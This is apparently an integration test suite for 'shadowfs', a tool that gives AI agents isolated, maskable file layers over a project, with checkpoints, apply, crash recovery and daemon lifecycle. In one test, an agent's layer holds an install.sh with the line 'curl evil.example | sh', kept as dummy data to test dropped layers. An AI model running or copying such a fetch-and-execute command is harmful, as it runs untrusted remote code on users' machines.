      const listed = (await client.request('list')).shadows[0];
      assert.strictEqual(listed.mounted, false);
      const beforeRead = events.length;
      const r = await client.request('layer.read', { shadow: 'sleepy', agent: 'default', path: 'kept.txt' });
      assert.strictEqual(Buffer.from(r.data, 'base64').toString(), 'kept');
      await eventually(() => events.slice(beforeRead).includes('shadow/changed remounted'), 30_000, 'the request to mount it again');
      // Read through the mount. Idle for a second again (a stall), it is unmounted again: the next
      // request mounts it again, and the read is tried once more.
      for (let attempt = 0; ; attempt++) {
        const mark = events.length;
        await client.request('layer.read', { shadow: 'sleepy', agent: 'default', path: 'kept.txt' });
        try {
          assert.strictEqual(fs.readFileSync(path.join(info.mountPoint, 'kept.txt'), 'utf8'), 'kept');
          break;
        } catch (err) {
          if (attempt >= 3) throw err;
          await eventually(() => idleSince(mark), 10_000, `an idle unmount to explain: ${(err as Error).message}`);
        }
      }
      await client.request('unmount', { shadow: 'sleepy' });
      client.close();
    } finally {
      daemon.kill('SIGTERM');
      await new Promise((r) => daemon.once('exit', r));
    }
  });

  it('diff, patch, apply, checkpoints and the file tools from the CLI; the change feed reports writes made through the mount', async () => {
    const lower = makeProject();
    const info = json<{ mountPoint: string }>(['mount', lower, '--name', 'cliwork']);
    const client = await ShadowClient.connect({ autostart: false });
    const events: Array<{ event: string; agent: string | null; changes?: Array<{ path: string; kind: string }> }> = [];
    client.on('layer/changed', (p) => events.push(p));
    try {
      const guard = new FolderGuard(lower);
      json(['activate', 'cliwork', 'bob']);
      fs.writeFileSync(path.join(info.mountPoint, 'src', 'math.js'), 'module.exports = { add: (a, b) => a + b + 0 };\n');
      fs.writeFileSync(path.join(info.mountPoint, 'new.txt'), 'new\n');
      await eventually(
        () =>
          events.some(
            (e) => e.event === 'changed' && e.agent === 'bob' && !!e.changes?.some((c) => c.path === 'new.txt' && c.kind === 'added'),
          ),
        15_000,
        `a "changed" event for a write made through the mount (got ${JSON.stringify(events)})`,
      );
      // The file tools see bob's layer; edit refuses an ambiguous match with its code.
      assert.match(cli(['file', 'read', 'cliwork', 'src/math.js', '--agent', 'bob']).stdout, /a \+ b \+ 0/);
      const grep = json<{ matches: Array<{ path: string }> }>(['file', 'grep', 'cliwork', 'a \\+ b', '--agent', 'bob']);
      assert.ok(grep.matches.some((m) => m.path === 'src/math.js'));
      const amb = cli(['file', 'edit', 'cliwork', 'src/math.js', '--agent', 'bob', '--old', 'a', '--new', 'x']);
      assert.strictEqual(amb.status, 1, how(amb));
      assert.match(amb.stderr, /AMBIGUOUS_MATCH/);
      json(['file', 'edit', 'cliwork', 'src/math.js', '--agent', 'bob', '--old', ' + 0', '--new', '']);
      const diff = cli(['diff', 'cliwork', '--agent', 'bob']);
      assert.strictEqual(diff.status, 0, how(diff));
      assert.match(diff.stdout, /^\+new$/m);
      // The shadow named by its folder, or a path inside it, relative to where the CLI stands.
      const byFolder = cli(['diff', path.relative(process.cwd(), path.join(lower, 'src')), '--agent', 'bob']);
      assert.strictEqual(byFolder.stdout, diff.stdout, byFolder.stderr);
      // Two shadows of one folder: the folder names neither, and the error says which to name.
      json(['mount', lower, '--name', 'cliwork2']);
      const two = cli(['diff', lower, '--agent', 'bob']);
      assert.strictEqual(two.status, 1, how(two));
      assert.match(two.stderr, /UNKNOWN_SHADOW: 2 shadows show the folder .*\(cliwork, cliwork2\): name one/);
      json(['unmount', 'cliwork2']);
      const patchFile = path.join(tempDir('cli-patch'), 'bob.patch');
      exits(['patch', 'cliwork', '--agent', 'bob', '-o', patchFile], 0);
      assert.match(fs.readFileSync(patchFile, 'utf8'), /^diff --git a\/new\.txt b\/new\.txt\nnew file mode 100644/m);
      const cp = json<{ name: string; files: number }>(['checkpoint', 'cliwork', '--agent', 'bob', '--name', 'before-apply']);
      assert.strictEqual(cp.files, 2);
      assert.ok(
        json<{ checkpoints: Array<{ name: string }> }>(['checkpoints', 'cliwork', '--agent', 'bob']).checkpoints.some(
          (c) => c.name === 'before-apply',
        ),
      );
      const dry = json<{ applied: Array<{ path: string }> }>(['apply', 'cliwork', '--agent', 'bob', '--dry-run']);
      assert.deepStrictEqual(dry.applied.map((a) => a.path).sort(), ['new.txt', 'src/math.js']);
      // git's "--" before paths: the paths after it, never every path; elsewhere, refused.
      const oneRun = cli(['apply', 'cliwork', '--agent', 'bob', '--dry-run', '--json', '--', 'new.txt']);
      assert.strictEqual(oneRun.status, 0, how(oneRun));
      const one = JSON.parse(oneRun.stdout) as { applied: Array<{ path: string }> };
      assert.deepStrictEqual(
        one.applied.map((a) => a.path),
        ['new.txt'],
      );
      const diffOne = cli(['diff', 'cliwork', '--agent', 'bob', '--', 'new.txt']);
      assert.strictEqual(diffOne.status, 0, how(diffOne));
      assert.ok(diffOne.stdout.includes('b/new.txt') && !diffOne.stdout.includes('math.js'), diffOne.stdout);
      const stray = cli(['checkpoints', 'cliwork', '--agent', 'bob', '--', 'new.txt']);
      assert.strictEqual(stray.status, 2, how(stray));
      assert.match(stray.stderr, /"--" goes before a command \(run, shell\) or before paths/);
      // Options before the command are still options, their values no command (review: this run was refused).
      const early = cli(['--agent', 'bob', 'run', 'cliwork', '--', 'echo', 'ok']);
      assert.strictEqual(early.status, 0, how(early));
      assert.strictEqual(early.stdout, 'ok\n');
      // A file whose name starts with "-": after "--" a command of one path refuses it and says
      // how to name it; named so, it is written.
      const dashed = cli(['layer', 'write', 'cliwork', 'bob', '--', '--take'], 'x\n');
      assert.strictEqual(dashed.status, 2, how(dashed));
      assert.match(
        dashed.stderr,
        /layer write cliwork bob takes no arguments after it: --take\nName a path that starts with "-" as \.\/--take\./,
      );
      assert.strictEqual(cli(['layer', 'write', 'cliwork', 'bob', './--take'], 'x\n').status, 0);
      assert.strictEqual(cli(['layer', 'cat', 'cliwork', 'bob', './--take']).stdout, 'x\n');
      assert.strictEqual(cli(['layer', 'rm', 'cliwork', 'bob', './--take']).status, 0);
      // A file named "-" is that file (yargs alone made it "", the shadow root), while a run's
      // command after "--" keeps its "-".
      assert.strictEqual(cli(['layer', 'write', 'cliwork', 'bob', '-'], 'dash\n').status, 0);
      assert.strictEqual(cli(['layer', 'cat', 'cliwork', 'bob', '-']).stdout, 'dash\n');
      const stdinDash = cli(['run', 'cliwork', '--agent', 'bob', '--', 'cat', '-'], 'ignored\n');
      assert.strictEqual(stdinDash.status, 0, how(stdinDash));
      assert.strictEqual(stdinDash.stdout, '', 'a run has no input: "cat -" reads nothing');
      // A run's command with a "-" but without "--" is refused, never run without its "-" (yargs
      // drops it) nor with "./-" (review).
      const echoDash = cli(['run', 'cliwork', '--agent', 'bob', 'echo', '-', 'x']);
      assert.strictEqual(echoDash.status, 2, how(echoDash));
      assert.match(echoDash.stderr, /a "-" in the command of run is kept only after "--"/);
      assert.strictEqual(cli(['run', 'cliwork', '--agent', 'bob', '--', 'echo', '-', 'x']).stdout, '- x\n');
      assert.strictEqual(cli(['layer', 'rm', 'cliwork', 'bob', '-']).status, 0);
      assert.notStrictEqual(cli(['layer', 'cat', 'cliwork', 'bob', '-']).status, 0);
      await guard.check(); // nothing above wrote the folder
      // You edit math.js yourself: apply writes new.txt, reports math.js (exit status 6).
      fs.writeFileSync(path.join(lower, 'src', 'math.js'), '// yours\n');
      const ap = cli(['apply', 'cliwork', '--agent', 'bob']);
      assert.strictEqual(ap.status, 6, how(ap));
      assert.match(ap.stdout, /CONFLICT +src\/math\.js/);
      assert.strictEqual(fs.readFileSync(path.join(lower, 'new.txt'), 'utf8'), 'new\n');
      assert.strictEqual(fs.readFileSync(path.join(lower, 'src', 'math.js'), 'utf8'), '// yours\n');
      exits(['apply', 'cliwork', '--agent', 'bob', '--take', 'src/math.js'], 0);
      assert.strictEqual(fs.readFileSync(path.join(lower, 'src', 'math.js'), 'utf8'), 'module.exports = { add: (a, b) => a + b };\n');
      await eventually(() => events.some((e) => e.event === 'applied' && e.agent === 'bob'), 30_000, 'the "applied" notification');
      // The checkpoint still holds bob's work as it was.
      json(['restore', 'cliwork', '--agent', 'bob', '--name', 'before-apply']);
      assert.strictEqual(
        fs.readFileSync(path.join(info.mountPoint, 'src', 'math.js'), 'utf8'),
        'module.exports = { add: (a, b) => a + b };\n',
      );
      exits(['restore', 'cliwork', '--agent', 'bob', '--name', 'nosuch'], 1);
      // run --no-network: the command sees loopback only.
      const offline = json<{ exitCode: number; stdout: string }>([
        'run',
        'cliwork',
        '--agent',
        'bob',
        '--no-network',
        '--json',
        '--',
        'sh',
        '-c',
        'ip -o link | cut -d: -f2 | tr -d " "',
      ]);
      assert.deepStrictEqual([offline.exitCode, offline.stdout.trim()], [0, 'lo']);
      // Output into a pipe whose reader has gone: ended as SIGPIPE would end it, no stack trace.
      const piped = spawnSync(
        'bash',
        [
          '-c',
          `"${process.execPath}" "${cliPath}" run cliwork --agent bob -- sh -c 'yes | head -200000' | head -1; echo "status \${PIPESTATUS[0]}"`,
        ],
        { encoding: 'utf8', timeout: 60_000 },
      );
      assert.strictEqual(piped.stdout, 'y\nstatus 141\n', piped.stderr);
      assert.ok(!/EPIPE|at .*\.js:\d+/.test(piped.stderr), piped.stderr);
      // layer revert gives a path back to the folder (the layer drops its own version).
      fs.writeFileSync(path.join(info.mountPoint, 'README.md'), 'bob was here\n');
      assert.deepStrictEqual(json<{ path: string }>(['layer', 'revert', 'cliwork', 'bob', 'README.md']), { path: 'README.md' });
      assert.strictEqual(
        fs.readFileSync(path.join(info.mountPoint, 'README.md'), 'utf8'),
        fs.readFileSync(path.join(lower, 'README.md'), 'utf8'),
      );
      await eventually(() => events.some((e) => e.event === 'reverted' && e.agent === 'bob'), 30_000, 'the "reverted" notification');
      const noAgent = cli(['layer', 'revert', 'cliwork', 'nobody', 'README.md', '--json']);
      assert.strictEqual(noAgent.status, 1, how(noAgent));
      assert.strictEqual((JSON.parse(noAgent.stdout) as { error: { code: string } }).error.code, 'UNKNOWN_AGENT');
      const outside = cli(['layer', 'revert', 'cliwork', 'bob', '../x', '--json']);
      assert.strictEqual(outside.status, 1, how(outside));
      assert.strictEqual((JSON.parse(outside.stdout) as { error: { code: string } }).error.code, 'INVALID_PATH');
    } finally {
      client.close();
    }
  });

  it('a SIGKILL of the daemon mid-work loses at most what autosave had not saved: the next daemon mounts the shadow again with the layer back', async () => {
    stopTestDaemon();
    const spawnDaemon = () =>
      spawn(process.execPath, [cliPath, 'serve', '--foreground', '--autosave', '1', '--exit-after', '600', '--no-console'], {
        stdio: 'ignore',
      });
    const first = spawnDaemon();
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    try {
      await eventually(() => fs.existsSync(daemonPaths().socket), 60_000, 'the daemon to listen');
      const info = json<{ mountPoint: string }>(['mount', lower, '--name', 'killed']);
      // The agent works through the mount, as its programs would. out.txt is written last: an
      // autosave whose list of changes has it, whole, began after every other edit had ended.
      json(['activate', 'killed', 'agent']);
      const math = 'module.exports = { work: "in progress" };\n';
      fs.rmSync(path.join(info.mountPoint, 'notes'), { recursive: true });
      fs.mkdirSync(path.join(info.mountPoint, 'generated'));
      fs.writeFileSync(path.join(info.mountPoint, 'src', 'math.js'), math);
      fs.writeFileSync(path.join(info.mountPoint, 'generated', 'out.txt'), 'output\n');
      // Autosave (every second here) saves it; then the daemon dies without a word.
      await eventually(
        () =>
          json<{ checkpoints: Array<{ name: string; files: number; bytes: number }> }>([
            'checkpoints',
            'killed',
            '--agent',
            'agent',
          ]).checkpoints.some((c) => c.name === 'autosave' && c.files === 2 && c.bytes === Buffer.byteLength(math) + 'output\n'.length),
        60_000,
        'an autosave with both files, whole',
      );
      first.kill('SIGKILL');
      await new Promise((r) => first.once('exit', r));
      // The next command starts a daemon that mounts "killed" again and brings the layer back.
      exits(['list'], 0);
      const st = json<{ shadows: Array<{ name: string; agents: string[]; mountPoint: string }> }>(['status']);
      assert.deepStrictEqual(
        st.shadows.map((x) => x.name),
        ['killed'],
      );
      assert.ok(st.shadows[0].agents.includes('agent'), JSON.stringify(st.shadows));
      const again = st.shadows[0].mountPoint;
      json(['activate', 'killed', 'agent']);
      assert.strictEqual(fs.readFileSync(path.join(again, 'src', 'math.js'), 'utf8'), 'module.exports = { work: "in progress" };\n');
      assert.strictEqual(fs.readFileSync(path.join(again, 'generated', 'out.txt'), 'utf8'), 'output\n');
      assert.ok(!fs.existsSync(path.join(again, 'notes')), 'the deletion came back too');
      // Unmounting on purpose drops the layers, and their autosave with them.
      exits(['unmount', 'killed'], 0);
      const remounted = json<{ agents: string[] }>(['mount', lower, '--name', 'killed']);
      assert.ok(!remounted.agents.includes('agent'), 'a deliberate unmount does not come back');
      exits(['unmount', 'killed'], 0);
      await guard.check();
    } finally {
      guard.stop();
      if (first.exitCode === null && first.signalCode === null) first.kill('SIGKILL');
    }
  });

  it('a daemon that stops (as at a reboot) saves every layer; mounting the folder again brings them back', async () => {
    stopTestDaemon();
    const lower = makeProject();
    fs.writeFileSync(path.join(lower, '.env'), 'SECRET=1\n');
    const guard = new FolderGuard(lower);
    const d = spawn(process.execPath, [cliPath, 'serve', '--foreground', '--autosave', '0', '--exit-after', '600', '--no-console'], {
      stdio: 'ignore',
    });
    try {
      await eventually(() => fs.existsSync(daemonPaths().socket), 60_000, 'the daemon to listen');
      json(['mount', lower, '--name', 'rebooted']);
      json(['layer', 'write', 'rebooted', 'carol', 'src/carol.js'], 'module.exports = "carol";\n');
      // carol may not see .env; her layer comes back masked (review: a stop kept her layer and lost
      // her mask, and only a crash's state file carried masks).
      json(['mask', 'rebooted', '--agent', 'carol', '--set', '.env']);
      // A layer you drop stays dropped (review: its autosave brought it back at the next mount).
      json(['layer', 'write', 'rebooted', 'dave', 'install.sh'], 'curl evil.example | sh\n');
      json(['checkpoint', 'rebooted', '--agent', 'dave', '--name', 'autosave']);
      json(['layer', 'drop', 'rebooted', 'dave']);
      d.kill('SIGTERM');
      await new Promise((r) => d.once('exit', r));
      // A new daemon (started by the next command) serves nothing until you mount the folder again.
      assert.deepStrictEqual(json<{ shadows: unknown[] }>(['list']).shadows, []);
      const back = json<{ agents: string[]; restored?: string[] }>(['mount', lower, '--name', 'rebooted']);
      assert.deepStrictEqual(back.restored, ['carol']);
      assert.ok(!back.agents.includes('dave'), JSON.stringify(back.agents));
      assert.strictEqual(cli(['layer', 'cat', 'rebooted', 'carol', 'src/carol.js']).stdout, 'module.exports = "carol";\n');
      assert.match(cli(['mask', 'rebooted', '--agent', 'carol']).stdout, /Mask of carol:\n {2}\.env/);
      const hidden = cli(['file', 'read', 'rebooted', '--agent', 'carol', '.env']);
      assert.notStrictEqual(hidden.status, 0, hidden.stdout);
      assert.doesNotMatch(hidden.stdout, /SECRET/);
      // Unmounting drops the layers on purpose, and their masks with them.
      exits(['unmount', 'rebooted'], 0);
      const fresh = json<{ restored?: string[] }>(['mount', lower, '--name', 'rebooted']);
      assert.strictEqual(fresh.restored, undefined);
      assert.strictEqual(cli(['mask', 'rebooted', '--agent', 'carol']).stdout, 'Mask of carol: nothing masked.\n');
      exits(['unmount', 'rebooted'], 0);
      await guard.check();
    } finally {
      guard.stop();
      if (d.exitCode === null && d.signalCode === null) d.kill('SIGKILL');
    }
  });

  it("two shadows of one folder share its autosaves and kept masks: unmounting one keeps the other's, and a mount without restore keeps them", async () => {
    const lower = makeProject();
    fs.writeFileSync(path.join(lower, '.env'), 'SECRET=1\n');
    const guard = new FolderGuard(lower);
    const store = new CheckpointStore(fs.realpathSync(lower));
    const kept = (): { masks: unknown; autosave: boolean } => ({
      masks: store.loadMasks(),
      autosave: store.list('erin').some((x) => x.name === 'autosave'),
    });
    const expected = { masks: { agents: { erin: ['.env'] } }, autosave: true };
    let c = await ShadowClient.connect({ clientName: 'two-shadows test' });
    try {
      await c.request('mount', { folder: lower, name: 'twin1' });
      await c.request('mount', { folder: lower, name: 'twin2' });
      await c.request('layer.mask', { shadow: 'twin2', agent: 'erin', globs: ['.env'] });
      await c.request('layer.write', { shadow: 'twin2', agent: 'erin', path: 'e.txt', data: Buffer.from('erin\n').toString('base64') });
      await c.request('layer.checkpoint', { shadow: 'twin2', agent: 'erin', name: 'autosave' });
      assert.deepStrictEqual(kept(), expected);
      // Unmounting twin1 drops twin1's layers, not twin2's autosave nor its masks (review: it
      // removed both; a crash then lost twin2's layer, a stop brought it back unmasked).
      await c.request('unmount', { shadow: 'twin1' });
      assert.deepStrictEqual(kept(), expected);
    } finally {
      c.close();
    }
    stopTestDaemon(); // as at a reboot
    c = await ShadowClient.connect({ clientName: 'two-shadows test' });
    try {
      // A mount that brings nothing back keeps the folder's masks for one that will (review: it
      // wrote its own, none, over them).
      const bare = await c.request('mount', { folder: lower, name: 'twin3', restore: false });
      assert.strictEqual(bare.restored, undefined);
      assert.deepStrictEqual(kept(), expected);
    } finally {
      c.close();
    }
    stopTestDaemon();
    const back = json<{ restored?: string[] }>(['mount', lower, '--name', 'twin2']);
    assert.ok(back.restored?.includes('erin'), JSON.stringify(back));
    assert.match(cli(['mask', 'twin2', '--agent', 'erin']).stdout, /Mask of erin:\n {2}\.env/);
    assert.doesNotMatch(cli(['file', 'read', 'twin2', '--agent', 'erin', '.env']).stdout, /SECRET/);
    exits(['unmount', 'twin2'], 0);
    assert.deepStrictEqual(kept(), { masks: undefined, autosave: false }, 'unmounting the last shadow of the folder drops both');
    await guard.check();
  });

  it('shadowfs stop stops the daemon as SIGTERM does and waits for it; an agent cannot; nothing to stop is no error', async () => {
    stopTestDaemon();
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    try {
      const info = json<{ mountPoint: string }>(['mount', lower, '--name', 'stopped']);
      json(['layer', 'write', 'stopped', 'dave', 'src/dave.js'], 'module.exports = "dave";\n');
      // An agent's restricted connection may not stop the daemon.
      const agent = await ShadowClient.connect({ autostart: false });
      try {
        await agent.request('session.restrict', { shadow: 'stopped', agent: 'dave' });
        await assert.rejects(agent.request('shutdown'), (e: ShadowError) => e.code === 'SCOPE_DENIED');
      } finally {
        agent.close();
      }
      const pid = json<{ pid: number }>(['status']).pid;
      const r = json<{ stopped: boolean; pid: number; shadows: string[] }>(['stop']);
      assert.deepStrictEqual([r.stopped, r.pid, r.shadows], [true, pid, ['stopped']]);
      assert.ok(!running(pid), 'the daemon has gone when stop returns');
      assert.ok(!mountedPaths().has(info.mountPoint), 'its shadow is unmounted');
      const again = cli(['stop']);
      assert.strictEqual(again.status, 0, how(again));
      assert.match(again.stdout, /not running; nothing to stop/);
      // The next command starts a daemon; the folder mounted again has the layer back.
      const back = json<{ restored?: string[] }>(['mount', lower, '--name', 'stopped']);
      assert.deepStrictEqual(back.restored, ['dave']);
      assert.strictEqual(cli(['layer', 'cat', 'stopped', 'dave', 'src/dave.js']).stdout, 'module.exports = "dave";\n');
      exits(['unmount', 'stopped'], 0);
      await guard.check();
    } finally {
      guard.stop();
    }
  });

  it('exits by itself when it has had no shadow and no client for --exit-after, and not while a client stays', async function () {
    stopTestDaemon();
    this.timeout(180_000);
    const started: ChildProcess[] = [];
    const start = (seconds: number): { exited: Promise<number | null>; gone: () => boolean } => {
      const d = spawn(process.execPath, [cliPath, 'serve', '--foreground', '--exit-after', String(seconds), '--no-console'], {
        stdio: 'ignore',
      });
      started.push(d);
      return {
        exited: new Promise<number | null>((r) => d.once('exit', (code) => r(code))),
        gone: () => d.exitCode !== null || d.signalCode !== null,
      };
    };
    try {
      // Nobody ever connects: it goes, with its socket.
      const lonely = start(1);
      assert.strictEqual(await lonely.exited, 0);
      assert.ok(!fs.existsSync(daemonPaths().socket), 'it removes its socket');
      // A client that stays longer than --exit-after keeps it; once the client goes, it goes. A
      // busy machine may take longer than --exit-after to connect, and the daemon rightly leaves
      // first: then again with twice as long.
      for (let seconds = 2; ; seconds *= 2) {
        const d = start(seconds);
        await eventually(() => fs.existsSync(daemonPaths().socket) || d.gone(), 30_000, 'the daemon to listen');
        let c: ShadowClient | undefined;
        let pid = 0;
        try {
          c = await ShadowClient.connect({ autostart: false });
          // Accepted in the moment it was leaving, the connection is closed at once.
          pid = (await c.request('status')).pid;
        } catch (err) {
          c?.close();
          assert.strictEqual(await d.exited, 0, `the daemon could not be reached (${(err as Error).message}) and did not exit by itself`);
          assert.ok(seconds < 32, `could not connect within ${seconds} s of the daemon listening, five times`);
          continue;
        }
        await new Promise((r) => setTimeout(r, (seconds + 1) * 1000));
        assert.strictEqual((await c.request('health')).ok, true, 'still serving the client that stayed');
        assert.strictEqual((await c.request('status')).pid, pid);
        c.close();
        assert.strictEqual(await d.exited, 0);
        assert.ok(!fs.existsSync(daemonPaths().socket), 'it removes its socket');
        return;
      }
    } finally {
      for (const d of started) if (d.exitCode === null && d.signalCode === null) d.kill('SIGKILL');
    }
  });
});
